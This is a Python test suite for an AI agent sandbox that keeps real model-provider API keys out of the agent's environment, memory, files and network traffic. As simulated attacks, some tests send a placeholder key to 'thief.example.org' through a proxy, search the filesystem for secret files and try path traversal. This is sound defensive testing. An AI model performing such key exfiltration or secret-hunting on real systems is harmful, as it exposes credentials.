"""No key inside: looked for in everything a real computer holds and says, while a question is under way."""

import asyncio
import contextlib
import json
import os
import shutil
import tempfile
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from tests.egress.models.gateway_harness import KEY, GatewayHarness, run_gateway
from tests.support.processes import find_descendants

from freehold.computer import Computer
from freehold.computer.contract.conventions import MODEL_PORT
from freehold.egress import EgressService, EgressSettings

SECRET = KEY.encode()

ASK = """
import http.client, json, os, sys
def ask(path, key, prompt, stream=False, model="gpt-4o", method="POST"):
    door = http.client.HTTPConnection("127.0.0.1", int(os.environ["MODEL_PORT"]), timeout=60)
    body = json.dumps({"model": model, "stream": stream, "messages": [{"role": "user", "content": prompt}]})
    door.request(method, path, body, {"Authorization": "Bearer " + key, "Content-Type": "application/json"})
    return door.getresponse()
"""


@dataclass
class Tap:
    """Everything that goes over the link, both ways."""

    up: bytearray = field(default_factory=bytearray)
    down: bytearray = field(default_factory=bytearray)


@asynccontextmanager
async def tapped(socket: Path, place: Path) -> AsyncIterator[Tap]:
    """A link at `place` that leads to `socket` and is listened to."""
    tap = Tap()

    async def copy(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, record: bytearray) -> None:
        while data := await reader.read(65536):
            record += data
            writer.write(data)
            await writer.drain()
        writer.close()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        there, back = await asyncio.open_unix_connection(socket)
        try:
            with contextlib.suppress(OSError, asyncio.CancelledError):
                await asyncio.gather(copy(reader, back, tap.down), copy(there, writer, tap.up))
        finally:
            back.close()
            writer.close()

    server = await asyncio.start_unix_server(serve, place)
    async with server:
        yield tap


@dataclass(frozen=True)
class Inside:
    computer: Computer
    door: GatewayHarness
    tap: Tap
    workspace: Path
    home: Path

    async def python(self, code: str, session: str = "s1") -> str:
        result = await self.computer.run(["python3", "-c", ASK + code], timeout=60, env=self.environment(session))
        assert result.exit_code == 0, result.stderr.decode()
        return result.stdout.decode()

    def environment(self, session: str = "s1") -> dict[str, str]:
        """As an agent of this session gets it."""
        return {
            "MODEL_PORT": str(MODEL_PORT),
            "OPENAI_API_KEY": self.door.models.endpoint_for("openai", session).key,
            "ANTHROPIC_API_KEY": self.door.models.endpoint_for("anthropic", session).key,
        }


@pytest.fixture
def folder() -> Iterator[Path]:
    made = Path(tempfile.mkdtemp(dir="/var/tmp", prefix="fh-keys-"))
    made.chmod(0o755)
    yield made
    shutil.rmtree(made, ignore_errors=True)


@pytest.fixture
async def inside(folder: Path) -> AsyncIterator[Inside]:
    workspace, home = folder / "workspace", folder / "home"
    workspace.mkdir()
    home.mkdir()
    async with (
        run_gateway(folder / "host") as door,
        Computer.start(workspace, home) as started,
        tapped(Path(started.transport.address), folder / "tap") as tap,
        Computer.connect(folder / "tap") as computer,
        EgressService(door.timeline, EgressSettings("deny")) as egress,
    ):
        await computer.listen(MODEL_PORT, door.models.handle)
        await computer.listen(3128, egress.handle)
        yield Inside(computer, door, tap, workspace, home)


def memory(pid: int) -> Iterator[bytes]:
    """Every mapping of a process that can be read."""
    with contextlib.suppress(OSError), Path(f"/proc/{pid}/mem").open("rb", 0) as mem:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            span, rights, *_rest = line.split()
            if not rights.startswith("r") or "[v" in line:
                continue
            start, end = (int(edge, 16) for edge in span.split("-"))
            with contextlib.suppress(OSError, ValueError):
                mem.seek(start)
                yield mem.read(end - start)


def everything_of(pids: list[int]) -> Iterator[tuple[str, bytes]]:
    for pid in pids:
        for name in ("environ", "cmdline"):
            with contextlib.suppress(OSError):
                yield f"{pid} {name}", Path(f"/proc/{pid}/{name}").read_bytes()
        for piece in memory(pid):
            yield f"{pid} memory", piece


@pytest.mark.skipif(os.geteuid() != 0, reason="only root reads the memory of another's processes")
async def test_no_key_is_inside_while_a_question_is_under_way(inside: Inside) -> None:
    """Environment, arguments, memory, files and the link itself; the placeholder is found by the same search."""
    code = """
answer = ask("/openai/v1/chat/completions", os.environ["OPENAI_API_KEY"], "SLOW", stream=True)
first = answer.readline()
open("/workspace/dump", "wb").write(first + repr(dict(os.environ)).encode())
print("asked", flush=True)
sys.stdin.read()
"""
    process = await inside.computer.spawn(["python3", "-c", ASK + code], env=inside.environment())
    assert await process.stdout.read() == b"asked\n"
    received = inside.door.provider.requests[-1]
    assert received.key == KEY, "the question did not go out with the key, so the search would prove nothing"
    pids = list(find_descendants(os.getpid()))
    assert len(pids) >= 2
    placeholder = inside.environment()["OPENAI_API_KEY"].encode()
    seen_placeholder = False
    for where, data in everything_of(pids):
        assert SECRET not in data, where
        seen_placeholder |= placeholder in data
    assert seen_placeholder, "the search does not find what is there"
    for root in (inside.workspace, inside.home):
        for path in root.rglob("*"):
            assert not path.is_file() or SECRET not in path.read_bytes()
    process.kill()
    await process.wait()
    assert placeholder in inside.tap.up
    assert SECRET not in inside.tap.up + inside.tap.down


async def test_an_echoed_key_does_not_cross_the_link(inside: Inside) -> None:
    """The prompt asks the provider to say the key that it got."""
    from freehold.testing.script import Say

    inside.door.provider.script = lambda _conversation: Say(f"your key is {KEY} indeed", piece=3)
    told = await inside.python(
        'print(ask("/openai/v1/chat/completions", os.environ["OPENAI_API_KEY"], "SAY x").read().decode())'
    )
    assert "your key is ***" in told
    assert SECRET not in inside.tap.down


async def test_a_placeholder_sent_elsewhere_stays_a_placeholder(inside: Inside) -> None:
    """To another provider, another path, another host through the proxy, or in a body: it is never exchanged."""
    told = await inside.python("""
key = os.environ["OPENAI_API_KEY"]
print(json.dumps([
    ask("/anthropic/v1/messages", key, "SAY x").status,
    ask("/openai/v1/files", key, "SAY x").status,
    ask("/openai/v1/chat/completions", os.environ["ANTHROPIC_API_KEY"], "SAY x").status,
]))
ask("/openai/v1/chat/completions", key, "SAY my key is " + key).read()
proxy = http.client.HTTPConnection("127.0.0.1", 3128, timeout=60)
proxy.request("GET", "http://thief.example.org/?k=" + key, headers={"Host": "thief.example.org"})
print(proxy.getresponse().status)
""")
    statuses, proxied = told.splitlines()
    assert json.loads(statuses) == [401, 403, 401]
    assert proxied == "403"
    (received,) = inside.door.provider.requests
    assert received.body.count(SECRET) == 0
    assert inside.environment()["OPENAI_API_KEY"].encode() in received.body


async def test_one_session_cannot_speak_for_another_without_its_placeholder(inside: Inside) -> None:
    """Guesses built from its own are refused, and what it spends is its own."""
    told = await inside.python("""
key = os.environ["OPENAI_API_KEY"]
guesses = [key[:-1], key + "A", key.upper(), key[:-1] + "A", "s2", "freehold-placeholder-s2", ""]
print([ask("/openai/v1/chat/completions", guess, "SAY x").status for guess in guesses if guess != key])
print(ask("/openai/v1/chat/completions", key, "SAY x").status)
""")
    assert set(json.loads(told.splitlines()[0])) == {401}
    assert (await inside.door.models.usage_of("s1")).requests == 1
    assert (await inside.door.models.usage_of("s2")).requests == 0


async def test_budgets_keys_and_the_timeline_cannot_be_reached_from_inside(inside: Inside, folder: Path) -> None:
    """There is no path, no port and no verb for them; and the gateway that can be reached knows only models."""
    told = await inside.python("""
found = []
for root, folders, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/usr", "/dev")):
        folders.clear()
        continue
    found += [os.path.join(root, name) for name in files if name in ("timeline.db", "secrets.db", "secrets.key")]
paths = ["/v1/budgets", "/v1/stop/lift", "/v1/secrets", "/openai/v1/../../v1/budgets", "/budgets", "/"]
statuses = [ask(path, os.environ["OPENAI_API_KEY"], "x", method=method).status for path in paths for method in ("GET", "PUT")]
print(json.dumps([found, statuses]))
""")
    found, statuses = json.loads(told)
    assert found == []
    assert set(statuses) <= {400, 403, 404}
    assert (folder / "host" / "timeline.db").exists()
    assert not inside.door.provider.requests
